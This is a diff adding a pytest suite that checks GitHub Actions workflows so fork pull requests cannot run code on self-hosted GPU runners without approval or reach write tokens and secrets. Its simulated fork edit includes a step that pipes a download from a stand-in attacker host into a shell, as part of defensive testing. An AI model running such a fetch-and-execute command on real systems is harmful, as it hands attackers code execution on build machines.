@@ -1,0 +1,236 @@
+"""Runner trust, as far as the workflows' YAML decides it: no fork code on the GPU runners
+without a per-commit approval, no write token or secret where the code under test runs, exact
+commits, a pinned gate. integration/test_workflows_trust.py runs the steps' scripts.
+
+What GitHub decides, and YAML cannot change, is modelled in one place (`file_github_runs`): for
+`pull_request` (and its review events) GitHub runs the workflow file of the PR's own merge
+commit, which a fork controls; for every other event the file comes from the base repository.
+"""
+
+from __future__ import annotations
+
+import copy
+import json
+
+import pytest
+import yaml
+from support.paths import REPO_ROOT
+from support.workflows import (
+    PR_WORKFLOWS,
+    SHA_RE,
+    WORKFLOWS,
+    gate_checkouts,
+    is_checkout,
+    load,
+    needs,
+    runs,
+    runs_on_self_hosted,
+    self_hosted_jobs,
+    step,
+    triggers,
+)
+
+# Events for which GitHub runs the PR's own copy of the workflow file.
+FILE_FROM_PR_HEAD = {"pull_request", "pull_request_review", "pull_request_review_comment"}
+# Events whose workflow file a fork cannot choose and whose code is trusted or approved.
+TRUSTED_FILE_EVENTS = {"pull_request_target", "workflow_dispatch", "schedule"}
+ALLOWED_SHA_REFS = {
+    "${{ needs.decide.outputs.sha }}",  # the head commit of the approving event
+    "${{ inputs.sha }}",  # the commit a writer dispatched
+    "${{ github.sha }}",  # the default branch's commit of a scheduled run
+}
+
+
+# -- the approval path, per kind of trigger -----------------------------------------------
+def approval_problems(doc: dict, name: str, event: str) -> list[str]:
+    """Why self-hosted job `name` could run without approval for `event` ([] when it can't)."""
+    job = doc["jobs"][name]
+    if event == "pull_request_target":
+        decide = doc["jobs"].get("decide")
+        problems = []
+        if decide is None or "decide" not in needs(job):
+            return ["does not need the decide job"]
+        if "needs.decide.outputs.run == 'true'" not in str(job.get("if", "")):
+            problems.append("runs without decide's run=true")
+        if job.get("environment") != "${{ needs.decide.outputs.environment }}":
+            problems.append("is not gated by decide's environment")
+        checks = runs(decide, "gate trust check-environment perf-gate-fork")
+        if not checks or checks[0].get("if") != "steps.decide.outputs.check-environment == 'true'":
+            problems.append("decide does not check the fork environment's reviewers")
+        return problems
+    default_branch_only = (
+        "github.ref == format('refs/heads/{0}', github.event.repository.default_branch)"
+    )
+    if event in ("schedule", "workflow_dispatch") and job.get("if") == default_branch_only:
+        return []  # the default branch's own code
+    if event == "workflow_dispatch":
+        check = doc["jobs"].get("check")
+        if check is None or "check" not in needs(job):
+            return ["does not need the check job"]
+        if not runs(check, "gate trust check-head"):
+            return ["the check job does not check the PR's head"]
+        return []
+    if event == "schedule":
+        return ["is not limited to the default branch"]
+    return [f"runs on {event}, whose workflow file or code is not approved"]
+
+
+def fork_edit(doc: dict) -> dict:
+    """What a fork's PR does to its own copy of the workflow: drop every `if:`, `needs:` and
+    `environment:` and add its own job on the GPU runner."""
+    evil = copy.deepcopy(doc)
+    for job in evil["jobs"].values():
+        for key in ("if", "needs", "environment"):
+            job.pop(key, None)
+    evil["jobs"]["mine"] = {
+        "runs-on": ["self-hosted", "gpu", "a100"],
+        "steps": [{"run": "curl -s https://attacker.example/x | sh"}],
+    }
+    return evil
+
+
+def file_github_runs(event: str, base_file: dict, pr_file: dict) -> dict:
+    return pr_file if event in FILE_FROM_PR_HEAD else base_file
+
+
+# == 1. the file that decides is the base branch's ========================================
+def test_self_hosted_jobs_run_only_on_events_whose_workflow_file_is_trusted():
+    for path in WORKFLOWS:
+        doc = yaml.safe_load(path.read_text())
+        if not self_hosted_jobs(doc):
+            continue
+        untrusted = set(triggers(doc)) - TRUSTED_FILE_EVENTS
+        assert not untrusted, f"{path.name}: self-hosted jobs under {untrusted}"
+
+
+@pytest.mark.parametrize("path", WORKFLOWS, ids=lambda p: p.name)
+def test_a_fork_pr_that_edits_the_workflow_reaches_no_gpu_runner(path):
+    """The attack: the fork's PR rewrites its copy of the workflow (no label `if:`, no
+    environment, its own self-hosted job). Whatever file GitHub runs for each trigger, every
+    self-hosted job in it must still need an approval the fork cannot give."""
+    shipped = yaml.safe_load(path.read_text())
+    forked = fork_edit(shipped)
+    for event in triggers(shipped):
+        doc = file_github_runs(event, shipped, forked)
+        unapproved = {
+            name: problems
+            for name in self_hosted_jobs(doc)
+            if (problems := approval_problems(doc, name, event))
+        }
+        assert not unapproved, f"{path.name} on {event}: {unapproved}"
+
+
+def test_the_pr_workflows_run_on_pull_request_target_for_the_default_branch():
+    for name in PR_WORKFLOWS:
+        on = triggers(load(name))
+        assert list(on) == ["pull_request_target"], name
+        assert on["pull_request_target"]["types"] == [
+            "opened",
+            "synchronize",
+            "reopened",
+            "labeled",
+        ]
+        assert on["pull_request_target"]["branches"] == ["main"]
+
+
+def test_decide_job_may_read_environments():
+    for name in PR_WORKFLOWS:
+        assert load(name)["jobs"]["decide"]["permissions"] == {"actions": "read"}
+
+
+# == 1b. what the GPU job holds ===========================================================
+def test_no_self_hosted_job_holds_a_write_token_secrets_or_a_cache():
+    for path in WORKFLOWS:
+        doc = yaml.safe_load(path.read_text())
+        assert "secrets" not in json.dumps(doc.get("env", {})), path.name
+        for name, job in self_hosted_jobs(doc).items():
+            where = f"{path.name}:{name}"
+            assert job.get("permissions") == {"contents": "read"}, where  # explicit, read-only
+            text = json.dumps(job)
+            assert "secrets." not in text and "secrets: inherit" not in text, where
+            assert "github.token" not in text and "GITHUB_TOKEN" not in text, where
+            for s in job["steps"]:
+                uses = str(s.get("uses", ""))
+                assert not uses.startswith(("actions/cache@", "actions/cache/")), where
+                assert "cache" not in (s.get("with") or {}), where
+                if is_checkout(s):
+                    assert s["with"]["persist-credentials"] is False, where
+
+
+def test_jobs_that_hold_write_tokens_never_run_the_code_under_test():
+    for path in WORKFLOWS:
+        doc = yaml.safe_load(path.read_text())
+        for name, job in doc["jobs"].items():
+            perms = job.get("permissions", doc.get("permissions", {}))
+            if "write" not in perms.values():
+                continue
+            assert not runs_on_self_hosted(job), f"{path.name}:{name}"
+            for s in job["steps"]:
+                if is_checkout(s) and "repository" not in s["with"]:
+                    # only the nightly's commit of the default branch, to commit baselines
+                    assert s["with"]["ref"] == "${{ github.sha }}", f"{path.name}:{name}"
+                assert s.get("uses") != "./.gate", f"{path.name}:{name}"
+
+
+# == 1c. one exact commit =================================================================
+def test_checkouts_of_the_code_under_test_use_exact_commit_shas():
+    for path in WORKFLOWS:
+        doc = yaml.safe_load(path.read_text())
+        for name, job in self_hosted_jobs(doc).items():
+            code = [s for s in job["steps"] if is_checkout(s) and "repository" not in s["with"]]
+            assert code, f"{path.name}:{name} checks out nothing"
+            for s in code:
+                ref = s["with"].get("ref")
+                if "sparse-checkout" in s["with"]:  # the base commit's baselines, data only
+                    assert ref == "${{ github.event.pull_request.base.sha }}"
+                    continue
+                assert ref in ALLOWED_SHA_REFS, f"{path.name}:{name}: ref {ref!r}"
+                confirm = [c for c in job["steps"] if "git rev-parse HEAD" in str(c.get("run"))]
+                if ref != "${{ github.sha }}":
+                    assert confirm, f"{path.name}:{name}: nothing confirms the checked-out commit"
+
+
+# == 3. reruns measure the dispatched commit, while it is the PR's head ==================
+def test_rerun_takes_a_required_sha_and_checks_out_exactly_it():
+    doc = load("gate-rerun.yml")
+    inputs = triggers(doc)["workflow_dispatch"]["inputs"]
+    assert inputs["sha"]["required"] is True and inputs["sha"]["type"] == "string"
+    assert "ref" not in inputs  # no branch names
+    measure = doc["jobs"]["measure"]
+    assert needs(measure) == ["check"]
+    (code,) = [s for s in measure["steps"] if is_checkout(s) and "repository" not in s["with"]]
+    assert code["with"]["ref"] == "${{ inputs.sha }}"
+    post = step(doc, "comment", "Post the comment")
+    assert '--expect-head-sha "$SHA"' in post["run"] and post["env"]["SHA"] == "${{ inputs.sha }}"
+
+
+def test_action_gives_no_measuring_step_a_token():
+    steps = yaml.safe_load((REPO_ROOT / "action.yml").read_text())["runs"]["steps"]
+    for s in steps:
+        env = json.dumps(s.get("env") or {})
+        if s.get("id") == "publish":
+            assert s["env"]["GITHUB_TOKEN"] == (
+                "${{ inputs.comment == 'true' && inputs.github-token || '' }}"
+            )
+            continue
+        assert "token" not in env.lower(), s["name"]
+
+
+def test_every_workflow_pins_the_gate_and_checks_the_pin_before_checking_it_out():
+    for path in WORKFLOWS:
+        doc = yaml.safe_load(path.read_text())
+        assert SHA_RE.fullmatch(str(doc["env"]["GATE_REF"])), path.name
+        for name, job in doc["jobs"].items():
+            for i in gate_checkouts(job):
+                before = [s for s in job["steps"][:i] if "GATE_REF" in str(s.get("run", ""))]
+                assert before, f"{path.name}:{name}: the gate is checked out unchecked"
+                # it runs whenever the checkout does
+                assert before[-1].get("if") in (None, job["steps"][i].get("if")), (path, name)
+
+
+def test_no_workflow_script_hard_codes_the_github_host():
+    for path in WORKFLOWS:
+        doc = yaml.safe_load(path.read_text())
+        for job in doc["jobs"].values():
+            for s in job["steps"]:
+                assert "https://github.com" not in str(s.get("run", "")), path.name
